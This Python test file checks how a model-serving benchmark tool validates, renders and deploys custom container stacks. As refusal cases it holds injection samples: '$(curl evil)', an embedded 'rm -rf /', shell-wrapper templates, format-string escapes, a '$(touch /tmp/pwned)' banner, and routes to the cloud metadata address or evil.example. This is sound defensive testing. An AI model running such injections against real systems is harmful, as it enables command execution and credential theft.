"""A custom stack: the plan's own image, argv template, port and routes, checked, rendered and deployed like
the built-in engines (cloud boot script, local provider with a real process and real HTTP, support matrix)."""

from __future__ import annotations

import copy
import shlex
import subprocess
import time

import httpx
import pytest
import yaml

from bakeoff import agent, catalog
from bakeoff.bench import server_metrics, tokenize
from bakeoff.plan import PlanError, load_plan, plan_from_dict
from bakeoff.plan import custom_stack as cs
from bakeoff.providers.local import LocalProvider
from bakeoff.quality.support import support_matrix
from bakeoff.serving import deploy, engines, readiness, tls, userdata
from bakeoff.serving import front as front_mod
from bakeoff.store import write_json
from tests.stub_host import docker_argv

KEY = "bk-" + "0123456789abcdef" * 2 + "01234567"
DIGEST = "ghcr.io/example/inhouse-llm:1.4@sha256:" + "ab" * 32
CLOUD = {
    "name": "inhouse",
    "image": DIGEST,
    "command": ["/opt/serve", "--model", "{model}", "--host", "{host}", "--port", "{port}", "--tp={tensor_parallel}"],
    "port": 9000,
    "health_route": "/healthz",
    "readiness_route": "/v1/models",
    "metrics_prefix": "inhouse:",
    "tokenize_route": "/v1/tokenize",
}
LOCAL = {
    "name": "emulated",
    "image": cs.LOCAL_IMAGE,
    "command": ["python3", "-m", "bakeoff.serving.emulator", "--port", "{port}", "--host", "{host}"],
    "health_route": "/ping",
    "tokenize_route": "/v1/count",
}


def _plan(provider: str, **changes) -> dict:
    raw = load_plan("mi355x-vs-b200-sandbox" if provider != "local" else "local-demo").model_dump(mode="json")
    t = next(x for x in raw["targets"] if x["provider"] == provider)
    t = {k: v for k, v in copy.deepcopy(t).items() if k not in ("speculative", "kv_offload", "recipe", "image")}
    t.update(stack="custom", quantization="fp8", checkpoint=None, engine_args=[], env={})
    t.update(changes)
    raw["targets"] = [t]
    return raw


def target(provider: str = "vultr", **changes):
    changes.setdefault("custom", CLOUD if provider != "local" else LOCAL)
    return plan_from_dict(_plan(provider, **changes)).targets[0]


def refused(provider: str = "vultr", **custom) -> str:
    block = {**(CLOUD if provider != "local" else LOCAL), **custom}
    with pytest.raises(PlanError) as e:
        plan_from_dict(_plan(provider, custom={k: v for k, v in block.items() if v is not None}))
    return str(e.value)


def test_plan_check_refuses_a_custom_stack_without_a_health_route_naming_the_field(tmp_path, capsys):
    from bakeoff.cli import main

    bad = _plan("vultr", custom={k: v for k, v in CLOUD.items() if k != "health_route"})
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(bad))
    assert main(["plan", "check", str(tmp_path / "bad.yaml")]) == 2
    assert "targets[0].custom: health_route: required" in capsys.readouterr().err
    assert "targets[0].custom.health_route" in refused(health_route="health")  # not a route: named the same
    (tmp_path / "ok.yaml").write_text(yaml.safe_dump(_plan("vultr", custom=CLOUD)))
    assert main(["plan", "check", str(tmp_path / "ok.yaml")]) == 0
    assert f"custom stack inhouse: {DIGEST} /opt/serve --model {{model}}" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("command", "says"),
    [
        (["/opt/serve", "--model", "{model.__class__}", "{host}", "{port}"], "{model.__class__}"),
        (["/opt/serve", "{0}", "{host}", "{port}"], "{0}"),
        (["/opt/serve", "--x", "{{host}}", "{host}", "{port}"], "stray brace"),
        (["/opt/serve", "--x", "{secrets}", "{host}", "{port}"], "{secrets}"),
        (["sh", "-c", "serve {model} --host {host} --port {port}"], "is a shell"),
        (["/bin/bash", "-c", "serve", "{host}", "{port}"], "is a shell"),
        (["$(curl evil)", "{host}", "{port}"], "must name the program"),
        (["/opt/serve", "--a\nrm -rf /", "{host}", "{port}"], "control character"),
        (["/opt/serve", "--host", "0.0.0.0", "--port", "{port}"], "never names {host}"),
    ],
)
def test_a_template_that_could_become_code_is_refused_naming_the_item(command, says):
    msg = refused(command=command)
    assert "targets[0].custom.command" in msg and says in msg, msg


def test_the_template_renders_one_word_per_item_with_the_plans_values():
    t = target(tensor_parallel=4)
    words = engines.command(t, 9001, "127.0.0.1")
    assert words == ["--model", t.checkpoint_id, "--host", "127.0.0.1", "--port", "9001", "--tp=4"]
    assert engines.boot(t).entrypoint == "/opt/serve" and engines.boot(t).fronted
    assert engines.label(t) == "custom: inhouse" and t.stack_spec.port == 9000
    assert engines.routes(t) == engines.Routes("/healthz", "/v1/models", "/v1/tokenize", None)


def test_a_value_that_looks_like_shell_stays_one_word_on_the_node():
    """A literal word with shell syntax reaches docker as that one word: the boot script quotes it."""
    t = target(custom={**CLOUD, "command": [*CLOUD["command"], "--banner=$(touch /tmp/pwned); `id` {gpus}"]})
    script = userdata.render(t, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32")
    line = next(x for x in script.splitlines() if x.startswith("docker run -d --name bakeoff-serve"))
    out = docker_argv(line)
    assert out[-1] == f"--banner=$(touch /tmp/pwned); `id` {t.tensor_parallel}"


def test_the_boot_script_runs_the_custom_image_behind_the_front():
    t = target()
    script = userdata.render(t, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32")
    assert len(script.encode()) < userdata.MAX_BYTES
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    serve, front = [shlex.split(x) for x in script.splitlines() if x.startswith("docker run -d --name bakeoff-")]
    assert serve[serve.index("--entrypoint") + 1] == "/opt/serve" and DIGEST in serve
    after = serve[serve.index(DIGEST) + 1 :]
    assert after[after.index("--host") + 1] == "127.0.0.1" and after[after.index("--port") + 1] == "9001"
    ports = front[front.index(front_mod.SCRIPT) + 1 :][:2]
    assert ports == ["9000", "9001"] and "--dport 9000" in script  # the front owns the serving port
    assert KEY not in " ".join(serve) and userdata.SECRETS_ENV not in " ".join(serve)  # no key, no secrets file


def test_a_custom_image_gets_secrets_only_when_the_installation_trusts_it():
    from bakeoff import installation

    floating = plan_from_dict(
        _plan(
            "vultr",
            custom={**CLOUD, "image": "docker.io/attacker/llm:latest"},
            secrets={"HF_TOKEN": "huggingface_default"},
        )
    )
    with pytest.raises(PlanError, match=r"targets\[0\].image: 'docker.io/attacker/llm:latest' is a floating tag"):
        installation.check_secret_images(floating, frozenset())
    pinned = plan_from_dict(_plan("vultr", custom=CLOUD, secrets={"HF_TOKEN": "huggingface_default"}))
    with pytest.raises(PlanError, match="not one of the images the installation trusts"):
        installation.check_secret_images(pinned, frozenset())
    installation.check_secret_images(pinned, frozenset({DIGEST}))  # trusted: allowed
    # even trusted, the serving container never gets the token: only bakeoff's downloader in the agent image
    ident = tls.node_identity("run-custom", "inhouse")
    script = userdata.render(
        pinned.targets[0],
        api_key=KEY,
        shutdown_after_s=3600,
        ingress_cidr="203.0.113.7/32",
        agent={"url": "https://bucket.example/client.zip", "sha256": "a" * 64, "requirements": []},
        tls={"cert": ident.cert_pem, "key": ident.key_pem},
        secret_names=["HF_TOKEN"],
    )
    assert len(script.encode()) < userdata.MAX_BYTES
    serve = next(shlex.split(x) for x in script.splitlines() if x.startswith("docker run -d --name bakeoff-serve"))
    assert userdata.SECRETS_ENV not in " ".join(serve) and "HF_TOKEN" not in " ".join(serve)
    lines = script.splitlines()
    uses = [i for i, x in enumerate(lines) if "docker run" in x and "$w_e" in x]  # $w_e: --env-file <secrets>
    assert len(uses) == 1
    run = lines[uses[0]] + lines[uses[0] + 1]  # the downloader's docker run, continued on the next line
    assert DIGEST not in run and catalog.agent_image() in run


def test_the_local_provider_runs_only_the_emulator_through_the_template():
    assert "custom.image: the local provider runs no container" in refused("local", image=DIGEST)
    assert "custom.image" in refused(
        "local",
        command=[
            "python3",
            "-m",
            "bakeoff.serving.emulator",
            "--port",
            "{port}",
            "--host",
            "{host}",
            "--port-file",
            "/etc/x",
        ],
    )
    assert "custom.image" in refused("local", command=["python3", "-m", "evil", "--port", "{port}", "--host", "{host}"])
    assert "port 8089 is the node agent's" in refused(port=8088) and cs.RESERVED_PORTS == {
        agent.AGENT_PORT: "the node agent's"
    }


def test_a_custom_stack_deploys_on_the_local_provider_with_real_http(tmp_path, monkeypatch):
    """A real emulator process, started through the rendered template, answers on the declared routes;
    readiness asks those routes, and deploy.json records the image and the argv that ran."""
    monkeypatch.setenv("BAKEOFF_DATA", str(tmp_path))
    t = target("local")
    provider = LocalProvider(grace_s=3.0)
    inst = provider.create(t, "run-custom", tags={}, spec={"expires_at": time.time() + 300})
    try:
        cmd = open(f"/proc/{inst.details['pid']}/cmdline", "rb").read().split(b"\0")
        assert [w.decode() for w in cmd[1:7]] == engines.command(t, 0, "127.0.0.1")  # the template's argv
        ready = provider.wait_ready(inst, 30)
        assert httpx.get(f"{ready.base_url}/ping", timeout=5).status_code == 200
        endpoint = None
        for _ in range(100):
            endpoint = deploy.check_serving(t, ready, api_key=None, out_dir=tmp_path / "out", waited_s=0.0)
            if endpoint:
                break
            time.sleep(0.1)
        assert endpoint is not None and endpoint.stack == "custom"
        doc = (tmp_path / "out" / "deploy.json").read_text()
        assert '"image": "bakeoff/emulator:local"' in doc and '"stack_label": "custom: emulated"' in doc
        assert '"engine_args": [' in doc and '"--host"' in doc
        seen = readiness.probe(ready.base_url, None, t.served_model_id, health="/not-declared")
        assert seen.ready is None and seen.last == "/not-declared answered 404"  # the declared route decides
        counter = tokenize.discover(endpoint, None)  # the declared tokenize route, answered for real
        assert counter.method == "tokenize" and counter.path == "/v1/count" and counter.count("a b c") > 0
        counter.close()
        assert server_metrics.scrape(endpoint, None) is None  # no metrics route declared: no counters claimed
        assert server_metrics.scrape(ready.base_url, None) is not None  # (the emulator has /metrics)
    finally:
        provider.terminate(inst.id)


def test_the_support_matrix_names_the_custom_stack_and_what_was_verified(tmp_path):
    raw = _plan("vultr", custom=CLOUD)
    raw["targets"].append({**raw["targets"][0], "name": "inhouse-dead", "custom": {**CLOUD, "name": "dead"}})
    plan = plan_from_dict(raw)
    up, dead = plan.targets
    for t, ready in ((up, True), (dead, False)):
        write_json(tmp_path / f"target={t.slug}" / "instance.json", {"id": "i-1", "state": "running"})
        write_json(
            tmp_path / f"target={t.slug}" / "deploy.json", {"ready": ready, "failure": None if ready else "timeout"}
        )
    rows = {r["slug"]: r for r in support_matrix(plan, tmp_path)}
    ok, bad = rows[up.slug], rows[dead.slug]
    assert ok["stack"] == "custom: inhouse" and bad["stack"] == "custom: dead"
    assert "health /healthz answered 200" in ok["custom_verified"] and f"image {DIGEST}" in ok["custom_verified"]
    assert not any("OpenAI" in v for v in ok["custom_verified"])  # not validated yet: not claimed
    assert bad["custom_verified"] == [] and bad["failure"] == "timeout"
    assert any(n.startswith("tokenize /v1/tokenize") for n in ok["custom_not_verified"])
    assert "metrics: no route declared, no server counters" in ok["custom_not_verified"]


@pytest.mark.parametrize("route", ["//169.254.169.254/latest", "http://evil.example/h", "/../admin", "/a b", "health"])
def test_a_route_is_a_path_on_the_stacks_own_server(route):
    assert "targets[0].custom.health_route" in refused(health_route=route)


def test_a_template_is_bounded_and_a_boot_script_over_the_limit_is_refused_before_launch():
    words = ["/opt/serve", "--host", "{host}", "--port", "{port}"]
    words += ["--opt=" + "x" * 100] * ((cs.MAX_TEMPLATE - 30) // 107)
    assert "over 1024" in refused(command=[*words, "--more=" + "x" * 200])
    t = target(custom={**CLOUD, "command": words})
    script = userdata.render(t, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32")
    assert len(script.encode()) < userdata.MAX_BYTES  # the longest template fits a node without TLS or agent
    big = target(custom={**CLOUD, "command": words}, env={f"OPT_{i}": "y" * 200 for i in range(40)})
    with pytest.raises(ValueError, match=r"targets\.mi355x-vllm: the boot script is \d+ bytes, over"):
        userdata.render(big, api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32")
